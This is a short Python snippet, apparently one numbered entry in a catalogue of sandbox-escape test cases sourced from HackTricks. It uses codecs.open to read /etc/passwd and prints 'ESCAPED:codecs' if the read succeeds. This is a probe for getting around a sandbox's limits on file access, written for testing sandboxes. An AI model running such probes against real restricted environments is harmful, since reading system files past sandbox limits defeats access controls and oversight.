# escape: 031
# technique: codecs.open
# family: dfile
# goal: read-file
# first-seen: HackTricks
import codecs
if 'root:' in codecs.open('/etc/passwd', encoding='ascii').readline(): print('ESCAPED:codecs')
